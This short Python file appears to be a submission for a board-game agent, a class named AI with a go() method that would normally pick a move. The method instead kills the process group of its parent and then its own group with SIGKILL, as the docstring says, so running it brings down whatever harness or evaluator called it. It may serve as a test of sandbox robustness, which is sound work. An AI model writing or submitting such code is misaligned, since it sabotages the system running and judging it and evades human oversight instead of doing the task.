"""Kills the process group of its parent."""

import os
import signal


class AI(object):
    def __init__(self, chessboard_size, color, time_out):
        self.candidate_list = []

    def go(self, chessboard):
        self.candidate_list.clear()
        os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)
        os.killpg(0, signal.SIGKILL)
